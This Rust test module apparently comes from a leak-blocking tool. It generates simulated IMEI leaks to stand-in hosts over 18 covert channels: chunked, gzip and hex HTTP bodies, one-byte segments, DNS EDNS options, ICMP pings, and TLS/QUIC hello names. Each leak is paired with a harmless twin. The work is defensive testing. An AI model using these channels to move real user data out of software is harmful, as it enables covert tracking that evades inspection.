//! How a leak is sent, and its harmless twin the same way.

use std::fmt::Write as _;
use std::io::Write as _;
use std::net::SocketAddr;

use data_encoding::HEXLOWER;
use flate2::Compression;
use flate2::write::GzEncoder;
use gasket_tests::dns;
use gasket_tests::hello::{hello, initial};
use gasket_tests::sum::Sum;

use crate::zzhc::{with_check_digit, wrapped_base64};

/// Nobody may reach names below it.
pub(super) const BLOCKED_NAME: &str = "tracker.test";

/// How something is said.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Manner {
    /// One POST, its body made by this.
    Post(Body),
    /// One POST, one byte a segment.
    Bytes(Body),
    /// The POST comes second on its connection.
    Kept,
    /// In the query of a GET.
    Query,
    /// One datagram.
    Datagram,
    /// In an option of a question over UDP (RFC 6891).
    Question,
    /// The same over TCP.
    LongQuestion,
    /// What a ping carries.
    Ping,
    /// The blocked name in a hello of TLS.
    Hello,
    /// The same in a QUIC Initial.
    Initial,
}

/// How a body is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Body {
    Plain,
    Base64,
    ChunkedBase64,
    Chunked,
    Gzip,
    Hex,
    Form,
}

/// One way to leak.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) struct Form {
    /// For people.
    pub(super) name: &'static str,
    /// Where it goes to; 0 for ICMP. Servers listen there on all addresses.
    pub(super) port: u16,
    manner: Manner,
}

const fn form(name: &'static str, port: u16, manner: Manner) -> Form {
    Form { name, port, manner }
}

/// All of them.
pub(super) const FORMS: [Form; 18] = [
    form("JSON", 8080, Manner::Post(Body::Plain)),
    form(
        "JSON to a port that is dialled first",
        8081,
        Manner::Post(Body::Plain),
    ),
    form("Base64 in lines", 8000, Manner::Post(Body::Base64)),
    form("Base64 in chunks", 8080, Manner::Post(Body::ChunkedBase64)),
    form("chunks of seven bytes", 8080, Manner::Post(Body::Chunked)),
    form("chunks, dialled first", 8081, Manner::Post(Body::Chunked)),
    form("gzip", 8080, Manner::Post(Body::Gzip)),
    form("hexadecimal", 8000, Manner::Post(Body::Hex)),
    form("a form", 8080, Manner::Post(Body::Form)),
    form("a query", 8080, Manner::Query),
    form("segments of one byte", 8080, Manner::Bytes(Body::Base64)),
    form("the second request", 8080, Manner::Kept),
    form("a datagram", 7201, Manner::Datagram),
    form("an option of a question", 53, Manner::Question),
    form("an option of a question over TCP", 53, Manner::LongQuestion),
    form("a ping", 0, Manner::Ping),
    form("a name in a TLS hello", 853, Manner::Hello),
    form("a name in a QUIC Initial", 443, Manner::Initial),
];

impl Form {
    /// Whether a first request goes before it that may be seen.
    pub(super) fn begins_harmless(self) -> bool {
        self.manner == Manner::Kept
    }

    /// What an app is to do so that leak number `serial` goes to `target`.
    pub(super) fn leak(self, target: SocketAddr, serial: u64) -> String {
        let tag = tag(serial);
        let imei = with_check_digit(&format!("359999{serial:08}"));
        let hex = |bytes: &[u8]| HEXLOWER.encode(bytes);
        let tcp = |pace: &str, bytes: &[u8]| format!("tell tcp {target} {pace} {}", hex(bytes));
        match self.manner {
            Manner::Post(body) => tcp("whole", &post("leak", &tag, body, &document(&tag, &imei))),
            Manner::Bytes(body) => tcp("bytes", &post("leak", &tag, body, &document(&tag, &imei))),
            Manner::Kept => {
                let first = b"GET /down/4/64 HTTP/1.1\r\nHost: shop.example\r\n\r\n";
                let second = post("leak", &tag, Body::Plain, &document(&tag, &imei));
                format!("tell tcp {target} whole {}+{}", hex(first), hex(&second))
            }
            Manner::Query => {
                let head = format!(
                    "GET /leak/{tag}?model=GSK-GASKET1&imei={imei} HTTP/1.1\r\nHost: shop.example\r\n\r\n"
                );
                tcp("whole", head.as_bytes())
            }
            Manner::Datagram => {
                format!(
                    "tell udp {target} {}",
                    hex(document(&tag, &imei).as_bytes())
                )
            }
            Manner::Question => {
                format!(
                    "tell udp {target} {}",
                    hex(&question(&tag, &document(&tag, &imei)))
                )
            }
            Manner::LongQuestion => {
                let question = question(&tag, &document(&tag, &imei));
                let length = u16::try_from(question.len()).expect("a short question");
                tcp("whole", &[&length.to_be_bytes()[..], &question].concat())
            }
            Manner::Ping => format!(
                "tell ping {target} {}",
                hex(document(&tag, &imei).as_bytes())
            ),
            Manner::Hello => tcp("whole", &hello(&format!("{tag}.{BLOCKED_NAME}"))),
            Manner::Initial => {
                let hello = hello(&format!("{tag}.{BLOCKED_NAME}"));
                format!("tell udp {target} {}", hex(&initial(&hello)))
            }
        }
    }

    /// The same without an identifier, or to a name that is not blocked, for servers that answer; `None` where the
    /// ordinary traffic has it.
    pub(super) fn twin(self, target: SocketAddr, serial: u64) -> Option<String> {
        let tag = tag(serial);
        let document = harmless(&tag);
        let (pace, body) = match self.manner {
            Manner::Post(body) => ("whole", body),
            Manner::Bytes(body) => ("bytes", body),
            Manner::Datagram => {
                let hex = HEXLOWER.encode(document.as_bytes());
                return Some(format!("exchange udp {target} {hex} {hex}"));
            }
            Manner::Initial => {
                let initial = HEXLOWER.encode(&initial(&hello(&format!("{tag}.shop.example"))));
                return Some(format!("exchange udp {target} {initial} {initial}"));
            }
            _ => return None,
        };
        let expected = Sum::told(&body.write(&document)).replace(' ', "_");
        let request = HEXLOWER.encode(&post("ordinary", &tag, body, &document));
        Some(format!("ask {target} {pace} {request} {expected}"))
    }
}

impl Body {
    /// The body without what frames it.
    fn write(self, document: &str) -> Vec<u8> {
        match self {
            Self::Plain | Self::Chunked => document.as_bytes().to_vec(),
            Self::Base64 | Self::ChunkedBase64 => wrapped_base64(document).into_bytes(),
            Self::Gzip => {
                let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
                gzip.write_all(document.as_bytes())
                    .expect("memory takes it");
                gzip.finish().expect("memory takes it")
            }
            Self::Hex => HEXLOWER.encode(document.as_bytes()).into_bytes(),
            Self::Form => format!("report={}", percent(document)).into_bytes(),
        }
    }
}

/// A serial number in letters: long runs of digits are masked in events.
pub(super) fn tag(serial: u64) -> String {
    let letter = |place: u32| char::from(b'a' + (serial / 16_u64.pow(place) % 16) as u8);
    (0..8).rev().map(letter).collect()
}

fn document(tag: &str, imei: &str) -> String {
    format!(r#"{{"LEAKED":"{tag}","model":"GSK-GASKET1","imei1":"{imei}"}}"#)
}

fn harmless(tag: &str) -> String {
    format!(r#"{{"ORDERED":"{tag}","model":"GSK-GASKET1","colour":"nothing to tell"}}"#)
}

fn percent(text: &str) -> String {
    text.bytes().fold(String::new(), |mut out, byte| {
        if byte.is_ascii_alphanumeric() {
            out.push(char::from(byte));
        } else {
            let _ = write!(out, "%{byte:02X}");
        }
        out
    })
}

fn post(path: &str, tag: &str, body: Body, document: &str) -> Vec<u8> {
    let bytes = body.write(document);
    let kind = match body {
        Body::Form => "application/x-www-form-urlencoded",
        _ => "application/json",
    };
    let mut head = format!(
        "POST /{path}/{tag} HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\nContent-Type: {kind}\r\n"
    );
    if body == Body::Gzip {
        head.push_str("Content-Encoding: gzip\r\n");
    }
    if !matches!(body, Body::Chunked | Body::ChunkedBase64) {
        let _ = write!(head, "Content-Length: {}\r\n\r\n", bytes.len());
        return [head.as_bytes(), &bytes].concat();
    }
    let mut request = format!("{head}Transfer-Encoding: chunked\r\n\r\n").into_bytes();
    for chunk in bytes.chunks(7) {
        let _ = write!(request, "{:x}\r\n", chunk.len());
        request.extend_from_slice(chunk);
        request.extend_from_slice(b"\r\n");
    }
    request.extend_from_slice(b"0\r\n\r\n");
    request
}

/// A question for an ordinary name with a text in an option (RFC 6891, section 6.1.2). The name is new each time: what
/// is asked again within seconds is not told again.
fn question(tag: &str, text: &str) -> Vec<u8> {
    let length = u16::try_from(text.len()).expect("a short text");
    let mut bytes = dns::question(7, &format!("{tag}.shop.test"), dns::A);
    bytes[11] = 1;
    bytes.extend([0, 0, 41, 4, 208, 0, 0, 0, 0]);
    bytes.extend((length + 4).to_be_bytes());
    bytes.extend([0xfd, 0xe9]);
    bytes.extend(length.to_be_bytes());
    bytes.extend(text.as_bytes());
    bytes
}
